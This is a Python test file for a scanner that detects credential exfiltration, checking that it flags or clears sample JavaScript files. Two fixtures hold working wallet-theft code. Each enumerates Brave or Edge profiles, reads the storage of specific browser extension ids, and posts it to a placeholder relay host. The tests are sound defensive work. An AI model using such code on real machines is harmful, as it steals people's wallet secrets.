"""Paths a JavaScript helper builds from a platform-keyed table and a listing of a folder
(``{darwin: …, linux: …}[process.platform]``, ``readdirSync(base).map(p => join(base, p, store))``),
returned after a guard's ``return []``: what is read under them is named, so extension ids kept in a
bundled data file still name the wallet store that is read and sent."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_IDS = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"]


def test_brave_profiles_listed_per_platform_and_ids_from_a_json_file_posted_with_axios(tmp_path: Path) -> None:
    files = {
        "tools/ids.json": json.dumps({"helpers": _IDS, "area": "Local Extension Settings"}),
        "tools/sync.js": "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n"
        "const axios = require('axios');\nconst cfg = require('./ids.json');\n"
        "function profiles() {\n"
        "  const base = {\n"
        "    linux: path.join(os.homedir(), '.config/BraveSoftware/Brave-Browser'),\n"
        "    darwin: path.join(os.homedir(), 'Library/Application Support/BraveSoftware/Brave-Browser'),\n"
        "  }[os.platform()];\n"
        "  if (!fs.existsSync(base)) return [];\n"
        "  return fs.readdirSync(base).map((p) => path.join(base, p, cfg.area));\n"
        "}\n"
        "const out = [];\n"
        "for (const area of profiles()) {\n"
        "  for (const id of cfg.helpers) {\n"
        "    const dir = path.join(area, id);\n"
        "    for (const f of fs.readdirSync(dir)) out.push(fs.readFileSync(path.join(dir, f), 'latin1'));\n"
        "  }\n"
        "}\n"
        "axios.post('https://sync.quiet-relay.example.net/v2', { out });\n",
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "tools/sync.js", 21) in errors
    message = next(f.message for f in scan_findings(tmp_path, files) if f.line == 21)
    assert "tools/sync.js:18" in message  # the read of the files under the extension folder


def test_a_platform_table_of_edge_folders_and_ids_from_an_esm_module_sent_over_fetch(tmp_path: Path) -> None:
    files = {
        "src/list.mjs": f"export const KEEP = {json.dumps(_IDS)};\n",
        "src/scan.mjs": "import { readdirSync, readFileSync, existsSync } from 'node:fs';\n"
        "import { join } from 'node:path';\nimport { homedir } from 'node:os';\n"
        "import { KEEP } from './list.mjs';\n"
        "const roots = () => {\n"
        "  const home = homedir();\n"
        "  const edge = { win32: join(home, 'AppData/Local/Microsoft/Edge/User Data'),\n"
        "    darwin: join(home, 'Library/Application Support/Microsoft Edge') }[process.platform];\n"
        "  if (!edge || !existsSync(edge)) { return []; }\n"
        "  return readdirSync(edge).map((p) => `${edge}/${p}/Local Extension Settings`);\n"
        "};\n"
        "const bag = {};\n"
        "for (const r of roots()) for (const id of KEEP) bag[id] = readFileSync(join(r, id, '000003.log'), 'base64');\n"
        "await fetch('https://bag.quiet-relay.example.net/p', { method: 'POST', body: JSON.stringify(bag) });\n",
    }
    errors = scan_errors(tmp_path, files)
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "src/scan.mjs" for rule, path, _line in errors)


def test_plugin_folders_listed_per_platform_and_their_names_sent_to_a_licence_server_stay_quiet(
    tmp_path: Path,
) -> None:
    files = {
        "scripts/inv.js": "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n"
        "const https = require('https');\n"
        "function dirs() {\n"
        "  const base = { darwin: '/Library/Audio/Plug-Ins', linux: path.join(os.homedir(), '.vst3') }"
        "[process.platform];\n"
        "  if (!fs.existsSync(base)) return [];\n"
        "  return fs.readdirSync(base).map((p) => path.join(base, p, 'Contents/Info.plist'));\n"
        "}\n"
        "const names = dirs().map((f) => fs.readFileSync(f, 'utf8').length);\n"
        "const req = https.request('https://licence.plugin-vendor.example/v1/check', { method: 'POST' });\n"
        "req.end(JSON.stringify(names));\n",
    }
    assert scan_errors(tmp_path, files) == set()
